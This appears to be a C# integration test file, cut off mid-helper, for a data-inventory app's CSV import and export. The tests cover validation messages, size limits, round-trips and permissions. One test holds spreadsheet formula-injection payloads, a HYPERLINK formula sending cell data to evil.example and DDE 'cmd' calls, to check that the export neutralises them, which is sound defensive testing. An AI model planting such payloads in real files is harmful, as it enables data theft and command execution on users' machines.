using System.Net;
using System.Security.Claims;
using System.Text;
using Microsoft.EntityFrameworkCore;
using SecurityHub.Account;
using SecurityHub.Inventory;
using SecurityHub.Tests.Infrastructure;
using SecurityHub.Tests.Integration.Audit;

namespace SecurityHub.Tests.Integration.Inventory;

/// <summary>CSV export and import of the inventory against the real app: what a person uploading a spreadsheet sees and gets.</summary>
public class InventoryCsvTests
{
    private const string Manager = "manager@example.com";
    private const string Staff = "staff@example.com";
    private static readonly string Header = string.Join(",", InventoryCsv.Headers);

    // --- File-level problems -------------------------------------------------------------------

    [Fact]
    public async Task Import_WrongHeader_NamesMissingAndUnknownColumnsAndImportsNothing()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);

        var result = await ImportAsync(app, manager, "Systen,Type,Categry,Purpose\r\nShop,Website or online shop,Names,Orders\r\n");

        Assert.False(result.Imported);
        Assert.False(result.Preview.CanImport);
        var problems = result.Preview.FileProblems;
        Assert.Contains(problems, p => p.Row == 1 && p.Message.Contains("Unknown columns: \"Systen\", \"Categry\"", StringComparison.Ordinal));
        Assert.Contains(problems, p => p.Row == 1 && p.Message.Contains("Missing columns: \"System\", \"Category\"", StringComparison.Ordinal));
        await AssertInventoryEmptyAsync(app);
    }

    [Fact]
    public async Task Import_EmptyFile_SaysTheFileIsEmpty()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);

        var empty = await ImportAsync(app, manager, "");
        var blank = await ImportAsync(app, manager, "\uFEFF\r\n  \r\n");
        var headerOnly = await ImportAsync(app, manager, Header + "\r\n");

        Assert.Contains("The file is empty", Assert.Single(empty.Preview.FileProblems).Message, StringComparison.Ordinal);
        Assert.Contains("The file is empty", Assert.Single(blank.Preview.FileProblems).Message, StringComparison.Ordinal);
        Assert.Contains("no rows", Assert.Single(headerOnly.Preview.FileProblems).Message, StringComparison.Ordinal);
        Assert.False(empty.Imported || blank.Imported || headerOnly.Imported);
        await AssertInventoryEmptyAsync(app);
    }

    [Fact]
    public async Task Import_FileOverFiveMegabytes_IsRefusedWhileStreamingAndImportsNothing()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);
        // Valid rows forever: only the cap can stop this upload.
        // Rows long enough that the byte cap comes before the row limit.
        var padding = new string('x', 400);
        using var upload = new EndlessCsvStream(Encoding.UTF8.GetBytes(Header + "\r\n"), n => $"System {n} {padding},Spreadsheet,In-house,,,,,,,,,,,,,Names,,,,,,,,,,\r\n");

        var result = await Service(app).ImportAsync(manager, upload, "huge.csv", validRowsOnly: true);

        Assert.False(result.Imported);
        Assert.Contains("The file is larger than 5 MB", Assert.Single(result.Preview.FileProblems).Message, StringComparison.Ordinal);
        Assert.Empty(result.Preview.Rows);
        // Stopped at the cap, give or take one read buffer: the upload was never read whole.
        Assert.InRange(upload.BytesServed, InventoryCsv.MaxBytes, InventoryCsv.MaxBytes + 256 * 1024);
        await AssertInventoryEmptyAsync(app);
    }

    [Fact]
    public async Task Import_EndlessSmallRows_RefusedAtTheRowLimitWithoutReadingFurtherAndImportsNothing()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);
        // Valid, short rows forever: far below 5 MB when the row limit is reached, so only that limit stops it.
        using var upload = new EndlessCsvStream(Encoding.UTF8.GetBytes("System,Type,Category\r\n"), n => $"S{n},Spreadsheet,Names\r\n");

        var result = await Service(app).ImportAsync(manager, upload, "rows.csv", validRowsOnly: true);

        Assert.False(result.Imported);
        var problem = Assert.Single(result.Preview.FileProblems);
        Assert.StartsWith("The file has more than 20,000 rows", problem.Message, StringComparison.Ordinal);
        Assert.Contains("Split it into files of at most 20,000 rows", problem.Message, StringComparison.Ordinal);
        Assert.Empty(result.Preview.Rows);
        // About 20,000 rows of ~22 bytes were read, give or take a read buffer; nowhere near the 5 MB cap.
        Assert.InRange(upload.BytesServed, 20_000 * 20, 20_000 * 30 + 256 * 1024);
        await AssertInventoryEmptyAsync(app);
    }

    [Theory]
    [InlineData(20_000, false)]
    [InlineData(20_001, true)]
    public async Task Preview_OneCharacterRows_ReadUpToTheRowLimitAndRefusedPastIt(int rows, bool refused)
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);
        var text = "System,Type,Category\n" + string.Concat(Enumerable.Repeat("x\n", rows));

        var preview = await PreviewAsync(app, manager, text);

        Assert.Equal(refused, preview.FileProblems.Count == 1 && preview.FileProblems[0].Message.StartsWith("The file has more than 20,000 rows", StringComparison.Ordinal));
        Assert.Equal(refused ? 0 : rows, preview.Rows.Count);
        Assert.False(preview.CanImport && refused);
        await AssertInventoryEmptyAsync(app);
    }

    [Fact]
    public async Task Import_ThousandBadRows_ListsABoundedNumberOfProblemsButCountsThemAll()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);
        var text = Rows(Enumerable.Range(1, 1000).Select(n => Row($"Shop {n}", "Website or online shop", category: "Shoe sizes")).ToArray());

        var result = await ImportAsync(app, manager, text);

        Assert.False(result.Imported);
        Assert.Equal(1000, result.Preview.WithProblems);
        Assert.Equal(1000, result.Preview.ProblemCount);
        Assert.Equal(300, result.Preview.Problems.Count);
        Assert.Equal(2, result.Preview.Problems[0].Row);
        Assert.Equal(301, result.Preview.Problems[^1].Row);
        Assert.Contains("1,000 rows have problems", result.Message, StringComparison.Ordinal);
        await AssertInventoryEmptyAsync(app);
    }

    // --- Row problems: row number, column, message ------------------------------------------------

    [Fact]
    public async Task Import_BadCategory_ReportsRowColumnAndTheValidCategories()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);

        var preview = await PreviewAsync(app, manager, Rows(
            Row("Shop", "Website or online shop", category: "Names"),
            Row("Shop", "Website or online shop", category: "Shoe sizes")));

        var problem = Assert.Single(preview.Problems);
        Assert.Equal(3, problem.Row);
        Assert.Equal("Category", problem.Column);
        Assert.Contains("\"Shoe sizes\" is not a category", problem.Message, StringComparison.Ordinal);
        Assert.Contains("Email addresses, Postal addresses", problem.Message, StringComparison.Ordinal);
        Assert.Equal(ImportAction.AddSystem, preview.Rows[0].Action);
    }

    [Fact]
    public async Task Import_BadDate_ReportsTheExpectedFormatAndImportsNothing()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);

        var result = await ImportAsync(app, manager, Rows(
            Row("Shop", "Website or online shop", category: "Names", oldestRecord: "2024-01-31"),
            Row("Mailer", "Email marketing", category: "Email addresses", oldestRecord: "31/01/2024")));

        Assert.False(result.Imported);
        var problem = Assert.Single(result.Preview.Problems);
        Assert.Equal((3, "Oldest record"), (problem.Row, problem.Column));
        Assert.Contains("\"31/01/2024\" is not a date", problem.Message, StringComparison.Ordinal);
        Assert.Contains("yyyy-MM-dd", problem.Message, StringComparison.Ordinal);
        Assert.Contains("Nothing was imported", result.Message, StringComparison.Ordinal);
        await AssertInventoryEmptyAsync(app);
    }

    [Fact]
    public async Task Import_BadValues_EachReportedWithRowAndColumn()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);
        await app.SeedUserAsync("owner.person@example.com", Roles.Staff);

        var preview = await PreviewAsync(app, manager, Rows(
            Row("A", "Spaceship"),
            Row("B", "Spreadsheet", encrypted: "Maybe"),
            Row("C", "Spreadsheet", owner: "nobody@example.com"),
            Row("D", "Spreadsheet", category: "Names", records: "lots"),
            Row("E", "Spreadsheet", category: "Names", retention: "forever"),
            Row("F", "Spreadsheet", category: "Names", sharedWith: "Mars base"),
            Row("G", "Spreadsheet", category: "Bank details", sensitivity: "Low"),
            Row("H", "Spreadsheet", owner: "OWNER.person@example.com", category: "Names", sharedWith: "A; B")));

        ImportProblem For(int row) => Assert.Single(preview.Rows.Single(r => r.Row == row).Problems);
        Assert.Equal("Type", For(2).Column);
        Assert.Contains("Website or online shop, Payment processor", For(2).Message, StringComparison.Ordinal);
        Assert.Equal(("Encrypted at rest", "\"Maybe\" is not an answer. Use Yes, No or Unknown."), (For(3).Column, For(3).Message));
        Assert.Equal("Business owner (email)", For(4).Column);
        Assert.Contains("No team member has the email \"nobody@example.com\"", For(4).Message, StringComparison.Ordinal);
        Assert.Equal("Approximate records", For(5).Column);
        Assert.Contains("not a whole number", For(5).Message, StringComparison.Ordinal);
        Assert.Equal("Retention", For(6).Column);
        Assert.Contains(RetentionRule.Examples, For(6).Message, StringComparison.Ordinal);
        Assert.Equal("Shared with", For(7).Column);
        Assert.Contains("\"Mars base\" is neither a system in this file nor one in the inventory", For(7).Message, StringComparison.Ordinal);
        // The same rule as the form: a different sensitivity needs a reason.
        Assert.Equal(("Override reason", "Say why this data is more or less sensitive than usual."), (For(8).Column, For(8).Message));
        // A system defined in the file can be shared with even though its own row has a problem... until that row is skipped.
        var h = preview.Rows.Single(r => r.Row == 9);
        Assert.Contains(h.Problems, p => p.Column == "Shared with" && p.Message.Contains("\"A\" is not imported", StringComparison.Ordinal));
        Assert.Equal(8, preview.WithProblems);
    }

    [Fact]
    public async Task Import_DuplicateRows_SecondIsAnErrorNamingTheFirstRow()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);

        var preview = await PreviewAsync(app, manager, Rows(
            Row("Shop", "Website or online shop", category: "Names"),
            Row("Shop", "Website or online shop", category: "Other", otherCategory: "Loyalty numbers"),
            Row("SHOP", "Website or online shop", category: "names"),
            Row("Shop", "Website or online shop", category: "Other", otherCategory: "loyalty NUMBERS")));

        Assert.Equal([4, 5], preview.Rows.Where(r => r.HasProblems).Select(r => r.Row));
        var names = Assert.Single(preview.Rows[2].Problems);
        Assert.Equal(("Category", "Row 2 already lists names for \"Shop\". A system lists each category once: merge the two rows."), (names.Column, names.Message));
        var other = Assert.Single(preview.Rows[3].Problems);
        Assert.Equal("Other category", other.Column);
        Assert.StartsWith("Row 3 already lists loyalty numbers", other.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Import_ConflictingSystemFacts_ReportsTheLaterRow()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);

        var preview = await PreviewAsync(app, manager, Rows(
            Row("Shop", "Website or online shop", encrypted: "Yes", category: "Names"),
            Row("Shop", "Website or online shop", encrypted: "yes", category: "Email addresses"),
            Row("Shop", "Website or online shop", encrypted: "", category: "Phone numbers"),
            Row("Shop", "Payment processor", encrypted: "No", category: "Purchase history")));

        var problems = preview.Rows[3].Problems;
        Assert.Equal(["Type", "Encrypted at rest"], problems.Select(p => p.Column));
        Assert.Contains("This system's Type is \"Website or online shop\" in row 2 but \"Payment processor\" here", problems[0].Message, StringComparison.Ordinal);
        Assert.Equal(1, preview.WithProblems);
    }

    // --- Excel, formulas, hostile input ------------------------------------------------------------

    [Fact]
    public async Task Import_ExcelFileWithBomSemicolonsAndCrlf_IsImported()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);
        var header = "System;TYPE;  operator ;Vendor;Data processing agreement;Category;Purpose;Approximate records;Retention;Oldest record;Shared with";
        var text = "\uFEFF" + header + "\r\n"
            + "Card payments;Payment processor;Third-party vendor;Stripe;Yes;Payment card numbers;\"Taking payments; refunds\";1 200;1 year after last purchase;2025-01-15;\r\n"
            + "\"Online shop; EU\";Website or online shop;In-house;;;Names;Orders;350;3 years after last purchase;;Card payments\r\n"
            + ";;;;;;;;;;\r\n";

        var result = await ImportAsync(app, manager, text, "Inventory (Excel).csv");

        Assert.True(result.Imported, result.Message);
        Assert.Equal(0, result.RowsSkipped);
        Assert.Equal(2, result.Preview.Rows.Count);
        await using var db = await app.CreateDbContextAsync();
        var stripe = await db.InventorySystems.Include(s => s.Items).SingleAsync(s => s.Name == "Card payments");
        Assert.Equal((SystemOperator.Vendor, "Stripe", Answer.Yes), (stripe.Operator, stripe.VendorName, stripe.HasDpa));
        var card = Assert.Single(stripe.Items);
        Assert.Equal((DataCategory.PaymentCardNumbers, "Taking payments; refunds", 1200), (card.Category, card.Purpose, card.ApproxRecords));
        Assert.Equal(new RetentionRule(RetentionTrigger.AfterLastPurchase, 1, RetentionUnit.Years), card.Retention);
        Assert.Equal(new DateOnly(2025, 1, 15), card.OldestRecord);
        var shop = await db.DataItems.Include(i => i.SharedWith).ThenInclude(s => s.System).SingleAsync(i => i.System!.Name == "Online shop; EU");
        Assert.Equal("Card payments", Assert.Single(shop.SharedWith).System!.Name);
        Assert.False(shop.IsSuggestion);
    }

    [Fact]
    public async Task Export_FormulaPayloads_AreNeutralizedAndReimportRestoresTheText()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);
        var service = Service(app);
        var payloads = new[] { "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0" };
        var imported = await ImportAsync(app, manager, Rows(
            Row("=1+2 shop", "Website or online shop", notes: payloads[0], category: "Names", purpose: payloads[1], deletion: "''@kept apostrophe"),
            Row("@Mailer", "Email marketing", category: "Email addresses", purpose: payloads[2], deletion: payloads[3])));
        Assert.True(imported.Imported, imported.Message);
        var before = await SnapshotAsync(app);

        using var output = new MemoryStream();
        await service.ExportAsync(manager, output);

        var csv = Encoding.UTF8.GetString(output.ToArray()).TrimStart('\uFEFF');
        var cells = Csv.Parse(csv).Skip(1).SelectMany(r => r).ToList();
        Assert.DoesNotContain(cells, c => c.Length > 0 && "=+-@".Contains(c[0], StringComparison.Ordinal));
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"", csv, StringComparison.Ordinal);
        Assert.Contains("'+cmd|' /C calc'!A0", cells);
        Assert.Contains("'-1+1", cells);
        Assert.Contains("'@SUM(1+1)*cmd|' /C calc'!A0", cells);
        Assert.Contains("'=1+2 shop", cells);
        Assert.Contains("'@Mailer", cells);

        // The apostrophe is the export's, not the data's: importing the file gives back the original text, unchanged.
        output.Position = 0;
        var again = await service.ImportAsync(manager, output, "export.csv", validRowsOnly: false);
        Assert.True(again.Imported, again.Message);
        Assert.All(again.Preview.Rows, r => Assert.Equal(ImportAction.Unchanged, r.Action));
        Assert.Equal(before, await SnapshotAsync(app));
        Assert.Contains(before, line => line.Contains(payloads[0], StringComparison.Ordinal));
        // Text that already starts with an apostrophe before a formula character keeps it.
        Assert.Contains(before, line => line.Contains("|'@kept apostrophe|", StringComparison.Ordinal));
        Assert.Contains("''@kept apostrophe", cells);
    }

    [Fact]
    public async Task Import_HostileInputs_AreRefusedOrCleanedWithoutHarm()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);
        var huge = new string('x', 10_000);

        var preview = await PreviewAsync(app, manager, Rows(
            Row(huge, "Spreadsheet"),
            Row("Shop", "Website or online shop", category: "Names", purpose: huge),
            Row("Bell\u0007 shop\u0000", "Website or online shop", notes: "line one\r\nline two\u001b[31m", category: "Names", purpose: "tab\there"),
            Row("=cmd|'/C calc'!A0", "Spreadsheet", category: "Names")));

        Assert.Equal(("System", "Keep this under 200 characters (it has 10,000)."), (preview.Rows[0].Problems[0].Column, preview.Rows[0].Problems[0].Message));
        Assert.Equal(("Purpose", "Keep this under 500 characters (it has 10,000)."), (preview.Rows[1].Problems[0].Column, preview.Rows[1].Problems[0].Message));
        Assert.True(preview.Rows[0].System.Length <= 81, "The preview does not echo a 10,000-character name.");

        var result = await Service(app).ImportAsync(manager, preview, validRowsOnly: true);

        Assert.True(result.Imported, result.Message);
        Assert.Equal(2, result.RowsSkipped);
        await using var db = await app.CreateDbContextAsync();
        var names = await db.InventorySystems.OrderBy(s => s.Id).Select(s => s.Name).ToListAsync();
        Assert.Equal(["Bell  shop", "=cmd|'/C calc'!A0"], names);
        var bell = await db.InventorySystems.Include(s => s.Items).SingleAsync(s => s.Name == "Bell  shop");
        Assert.Equal("line one\nline two [31m", bell.Notes);
        Assert.Equal("tab here", Assert.Single(bell.Items).Purpose);
    }

    // --- All or nothing, valid rows only, re-import -----------------------------------------------

    [Fact]
    public async Task Import_OneBadRow_ImportsNothingUnlessValidRowsOnlyIsChosen()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);
        var service = Service(app);
        var preview = await PreviewAsync(app, manager, Rows(
            Row("Shop", "Website or online shop", category: "Names"),
            Row("Shop", "Website or online shop", category: "Email addresses", retention: "2 years after last contact"),
            Row("Newsletter", "Email marketing", encrypted: "Perhaps", category: "Email addresses"),
            Row("Newsletter", "Email marketing", category: "Names", lastReviewed: "2099-01-01")));
        Assert.Equal("4 rows: 2 to add, 0 to update, 0 unchanged, 2 with problems", preview.Summary);

        var strict = await service.ImportAsync(manager, preview, validRowsOnly: false);

        Assert.False(strict.Imported);
        await AssertInventoryEmptyAsync(app);
        await using (var db = await app.CreateDbContextAsync())
        {
            Assert.False(await db.AuditEvents.AnyAsync(e => e.EventType == InventoryAuditEvents.Imported));
        }

        var partial = await service.ImportAsync(manager, preview, validRowsOnly: true);

        Assert.True(partial.Imported, partial.Message);
        Assert.Equal((2, 0, 2), (partial.RowsAdded, partial.RowsUpdated, partial.RowsSkipped));
        Assert.Equal(["Shop: Email addresses", "Shop: Names"], await ItemKeysAsync(app));
        await using (var db = await app.CreateDbContextAsync())
        {
            var summary = Assert.Single(await db.AuditEvents.Where(e => e.EventType == InventoryAuditEvents.Imported).ToListAsync());
            Assert.Equal(Manager, summary.ActorEmail);
            Assert.Equal("file \"upload.csv\"", summary.Target);
            Assert.StartsWith("4 rows: 2 added, 0 updated, 0 unchanged, 2 skipped with problems (chosen: import the valid rows only)", summary.Details, StringComparison.Ordinal);
            var added = Assert.Single(await db.AuditEvents.Where(e => e.EventType == InventoryAuditEvents.SystemAdded).ToListAsync());
            Assert.Equal("system \"Shop\"", added.Target);
            Assert.Contains("Type: (empty) -> 'Website or online shop'", added.Details, StringComparison.Ordinal);
            Assert.Contains("Email addresses added", added.Details, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task Import_SameFileTwiceThenChanged_UpdatesRatherThanDuplicates()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);
        var file = Rows(
            Row("Shop", "Website or online shop", category: "Names", purpose: "Orders"),
            Row("Shop", "Website or online shop", category: "Other", otherCategory: "Loyalty numbers"),
            Row("Spreadsheet", "Spreadsheet"));

        var first = await ImportAsync(app, manager, file);
        var second = await ImportAsync(app, manager, file);
        var changed = await ImportAsync(app, manager, Rows(
            Row("SHOP", "Website or online shop", category: "names", purpose: "Orders and delivery"),
            Row("shop", "Website or online shop", category: "Email addresses"),
            Row("Spreadsheet", "Spreadsheet", category: "Phone numbers")));

        Assert.True(first.Imported && second.Imported && changed.Imported);
        Assert.Equal(3, first.RowsAdded);
        Assert.Equal((0, 0, 3), (second.RowsAdded, second.RowsUpdated, second.RowsUnchanged));
        Assert.Equal([ImportAction.UpdateItem, ImportAction.AddItem, ImportAction.AddItem], changed.Preview.Rows.Select(r => r.Action));
        Assert.Contains("Purpose: 'Orders' -> 'Orders and delivery'", changed.Preview.Rows[0].Changes, StringComparison.Ordinal);
        Assert.Contains("Name: 'Shop' -> 'SHOP'", changed.Preview.Rows[0].Changes, StringComparison.Ordinal);
        Assert.Equal(["SHOP: Email addresses", "SHOP: Loyalty numbers", "SHOP: Names", "Spreadsheet: Phone numbers"], await ItemKeysAsync(app));
        await using var db = await app.CreateDbContextAsync();
        Assert.Equal(2, await db.InventorySystems.CountAsync());
    }

    [Fact]
    public async Task Import_RowsForGuidedSuggestions_ConfirmThem()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);
        await using (var db = await app.CreateDbContextAsync())
        {
            var now = app.Clock.GetUtcNow().UtcDateTime;
            db.InventorySystems.Add(new InventorySystem
            {
                Name = "Online shop", Type = SystemType.Website, IsSuggestion = true, CreatedUtc = now, UpdatedUtc = now,
                Items =
                [
                    new DataItem { Category = DataCategory.Names, IsSuggestion = true, CreatedUtc = now, UpdatedUtc = now },
                    new DataItem { Category = DataCategory.EmailAddresses, IsSuggestion = true, CreatedUtc = now, UpdatedUtc = now },
                ],
            });
            await db.SaveChangesAsync();
        }

        var result = await ImportAsync(app, manager, Rows(Row("Online shop", "Website or online shop", category: "Names")));

        Assert.True(result.Imported, result.Message);
        var row = Assert.Single(result.Preview.Rows);
        Assert.Equal(ImportAction.UpdateItem, row.Action);
        Assert.Contains("confirms the suggestion", row.Changes, StringComparison.Ordinal);
        await using var check = await app.CreateDbContextAsync();
        var system = await check.InventorySystems.Include(s => s.Items).SingleAsync();
        Assert.False(system.IsSuggestion);
        Assert.False(system.Items.Single(i => i.Category == DataCategory.Names).IsSuggestion);
        // Rows the file does not mention are left as they were: an import never deletes or confirms what it does not name.
        Assert.True(system.Items.Single(i => i.Category == DataCategory.EmailAddresses).IsSuggestion);
    }

    [Fact]
    public async Task ExportThenImport_RoundTrip_ReportsEveryRowUnchangedAndLeavesTheDatabaseIdentical()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);
        var ownerId = await app.SeedUserAsync("Anna.Owner@example.com", Roles.Manager);
        await using (var db = await app.CreateDbContextAsync())
        {
            var now = app.Clock.GetUtcNow().UtcDateTime;
            var stripe = new InventorySystem
            {
                Name = "Stripe", Type = SystemType.PaymentProcessor, Operator = SystemOperator.Vendor, VendorName = "Stripe, Inc.", VendorContact = "support@stripe.example",
                HasDpa = Answer.Yes, OwnerUserId = ownerId, AdminUrl = "https://dashboard.stripe.example/", EncryptedAtRest = Answer.Yes, AdminTwoFactor = Answer.Yes,
                DefaultPasswordsChanged = Answer.Yes, Updates = UpdatePolicy.Automatic, LastReviewed = new DateOnly(2026, 5, 1), CreatedUtc = now, UpdatedUtc = now,
            };
            var till = new InventorySystem
            {
                Name = "Old till; back room", Type = SystemType.PointOfSale, Updates = UpdatePolicy.Unsupported, EndOfLife = new DateOnly(2025, 10, 14),
                EncryptedAtRest = Answer.No, Notes = "Under the counter.\nKey is with \"Sam\", not Jo.", CreatedUtc = now, UpdatedUtc = now,
            };
            var empty = new InventorySystem { Name = "Paper files", Type = SystemType.PaperRecords, CreatedUtc = now, UpdatedUtc = now };
            var shop = new InventorySystem
            {
                Name = "Online shop", Type = SystemType.Website, Operator = SystemOperator.Vendor, VendorName = "Shopify", HasDpa = Answer.No,
                CreatedUtc = now, UpdatedUtc = now,
                Items =
                [
                    new DataItem { Category = DataCategory.Names, Purpose = "Orders, \"deliveries\" and returns", ApproxRecords = 1200, RetentionTrigger = RetentionTrigger.AfterLastPurchase,
                        RetentionAmount = 3, RetentionUnit = RetentionUnit.Years, DeletionMethod = "Shopify's delete button", OldestRecord = new DateOnly(2019, 2, 28), LastReviewed = new DateOnly(2026, 1, 2), CreatedUtc = now, UpdatedUtc = now },
                    new DataItem { Category = DataCategory.EmailAddresses, SensitivityOverride = Sensitivity.High, OverrideReason = "Includes VIP list", RetentionTrigger = RetentionTrigger.UntilAccountClosed,
                        RetentionAmount = 30, RetentionUnit = RetentionUnit.Days, CreatedUtc = now, UpdatedUtc = now },
                    new DataItem { Category = DataCategory.Other, OtherCategory = "Shoe sizes", SensitivityOverride = Sensitivity.Moderate, OverrideReason = "Same as usual, stated", RetentionTrigger = RetentionTrigger.UntilContractEnds, CreatedUtc = now, UpdatedUtc = now },
                    new DataItem { Category = DataCategory.PaymentCardNumbers, Purpose = "=legacy", RetentionTrigger = RetentionTrigger.AfterCollection, RetentionAmount = 6, RetentionUnit = RetentionUnit.Months, CreatedUtc = now, UpdatedUtc = now },
                ],
            };
            db.InventorySystems.AddRange(stripe, till, empty, shop);
            await db.SaveChangesAsync();
            shop.Items[0].SharedWith.Add(new DataItemShare { DataItemId = shop.Items[0].Id, SystemId = stripe.Id });
            shop.Items[0].SharedWith.Add(new DataItemShare { DataItemId = shop.Items[0].Id, SystemId = till.Id });
            shop.Items[3].SharedWith.Add(new DataItemShare { DataItemId = shop.Items[3].Id, SystemId = stripe.Id });
            await db.SaveChangesAsync();
        }
        var before = await SnapshotAsync(app);
        using var client = await SignedInClientAsync(app, Manager);

        using var response = await client.GetAsync("/inventory/export.csv");
        var bytes = await response.Content.ReadAsByteArrayAsync();
        var result = await Service(app).ImportAsync(manager, new MemoryStream(bytes), "export.csv", validRowsOnly: false);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.StartsWith("securityhub-inventory-2026-11-02", response.Content.Headers.ContentDisposition?.FileName?.Trim('"'), StringComparison.Ordinal);
        var rows = Csv.Parse(Encoding.UTF8.GetString(bytes).TrimStart('\uFEFF'));
        Assert.Equal(InventoryCsv.Headers, rows[0]);
        Assert.Equal(1 + 1 + 1 + 1 + 4, rows.Count);
        Assert.Contains(rows, r => r[0] == "Online shop" && r[15] == "Names" && r[25] == "Old till; back room; Stripe" && r[21] == "3 years after last purchase");
        Assert.Contains(rows, r => r[0] == "Paper files" && r[15] == "");
        Assert.Contains(rows, r => r[0] == "Stripe" && r[6] == "Anna.Owner@example.com");
        Assert.True(result.Imported, result.Message);
        Assert.Equal(7, result.Preview.Rows.Count);
        Assert.All(result.Preview.Rows, r => Assert.Equal((ImportAction.Unchanged, false), (r.Action, r.HasProblems)));
        Assert.Equal(before, await SnapshotAsync(app));
        await using var check = await app.CreateDbContextAsync();
        Assert.Equal(2, await check.AuditEvents.CountAsync(e => e.EventType == InventoryAuditEvents.Exported || e.EventType == InventoryAuditEvents.Imported));
        Assert.False(await check.AuditEvents.AnyAsync(e => e.EventType == InventoryAuditEvents.SystemChanged));
    }

    // --- Permissions ----------------------------------------------------------------------------------

    [Fact]
    public async Task Import_Staff_IsRefusedByTheService()
    {
        using var app = new AppFactory();
        await SeedAsync(app);
        var staff = await app.PrincipalForAsync(Staff);
        var service = Service(app);
        var file = Rows(Row("Shop", "Website or online shop", category: "Names"));

        await Assert.ThrowsAsync<AccessDeniedException>(() => service.PreviewAsync(staff, Stream(file), "x.csv"));
        await Assert.ThrowsAsync<AccessDeniedException>(() => service.ImportAsync(staff, Stream(file), "x.csv", validRowsOnly: true));
        var preview = await service.PreviewAsync(await app.PrincipalForAsync(Manager), Stream(file), "x.csv");
        await Assert.ThrowsAsync<AccessDeniedException>(() => service.ImportAsync(staff, preview, validRowsOnly: false));

        await AssertInventoryEmptyAsync(app);
    }

    [Fact]
    public async Task ImportPage_Staff_IsSentToAccessDenied()
    {
        using var app = new AppFactory();
        await SeedAsync(app);
        using var client = await SignedInClientAsync(app, Staff);

        using var response = await client.GetAsync("/inventory/import");

        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        Assert.StartsWith("/Account/AccessDenied", response.Headers.Location!.PathAndQuery, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("import-file", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task ImportPage_Manager_ShowsTheUploadAndDownloads()
    {
        using var app = new AppFactory();
        await SeedAsync(app);
        using var client = await SignedInClientAsync(app, Manager);

        var html = await client.GetStringAsync("/inventory/import");

        Assert.Contains("id=\"import-file\"", html, StringComparison.Ordinal);
        Assert.Contains("href=\"/inventory/export.csv\"", html, StringComparison.Ordinal);
        Assert.Contains("href=\"/inventory/template.csv\"", html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Export_Staff_CanDownloadAndIsAudited()
    {
        using var app = new AppFactory();
        var manager = await SeedAsync(app);
        await ImportAsync(app, manager, Rows(Row("Shop", "Website or online shop", category: "Names")));
        using var client = await SignedInClientAsync(app, Staff);

        using var response = await client.GetAsync("/inventory/export.csv");
        using var template = await client.GetAsync("/inventory/template.csv");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var rows = Csv.Parse((await response.Content.ReadAsStringAsync()).TrimStart('\uFEFF'));
        Assert.Equal(["Shop", "Names"], [rows[1][0], rows[1][15]]);
        Assert.Equal(HttpStatusCode.OK, template.StatusCode);
        Assert.Equal(Header + "\r\n", (await template.Content.ReadAsStringAsync()).TrimStart('\uFEFF'));
        await using var db = await app.CreateDbContextAsync();
        var exported = Assert.Single(await db.AuditEvents.Where(e => e.EventType == InventoryAuditEvents.Exported).ToListAsync());
        Assert.Equal((Staff, "CSV: 1 systems, 1 data items"), (exported.ActorEmail, exported.Details));
    }

    [Fact]
    public async Task Export_Anonymous_RedirectsToLogin()
    {
        using var app = new AppFactory();
        using var client = app.CreateHttpsClient();

        using var response = await client.GetAsync("/inventory/export.csv");

        Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
        Assert.StartsWith("/Account/Login", response.Headers.Location!.PathAndQuery, StringComparison.OrdinalIgnoreCase);
    }

    // --- Helpers -----------------------------------------------------------------------------------------

    private static async Task<ClaimsPrincipal> SeedAsync(AppFactory app)
    {
        await app.SeedUserAsync(Manager, Roles.Manager);
        await app.SeedUserAsync(Staff, Roles.Staff);
        return await app.PrincipalForAsync(Manager);
    }

    private static async Task<HttpClient> SignedInClientAsync(AppFactory app, string email)
    {
        var client = app.CreateHttpsClient();
        using var login = await app.LoginAsync(client, email);
        Assert.Equal(HttpStatusCode.Redirect, login.StatusCode);
        return client;
    }

    // The service is scoped, as in a request or a circuit; the scope holds nothing that needs disposing.
    private static InventoryCsvService Service(AppFactory app) => app.Services.CreateScope().ServiceProvider.GetRequiredService<InventoryCsvService>();

    private static MemoryStream Stream(string text) => new(Encoding.UTF8.GetBytes(text));

    private static Task<ImportResult> ImportAsync(AppFactory app, ClaimsPrincipal actor, string text, string fileName = "upload.csv") =>
        Service(app).ImportAsync(actor, Stream(text), fileName, validRowsOnly: false);

    private static Task<ImportPreview> PreviewAsync(AppFactory app, ClaimsPrincipal actor, string text) =>
        Service(app).PreviewAsync(actor, Stream(text), "upload.csv");

    private static string Rows(params string[] rows) => Header + "\r\n" + string.Join("\r\n", rows) + "\r\n";

    /// <summary>One CSV row in the export's column order; cells are quoted as RFC 4180 asks.</summary>
    private static string Row(string system, string type, string op = "", string vendor = "", string owner = "", string encrypted = "", string notes = "",
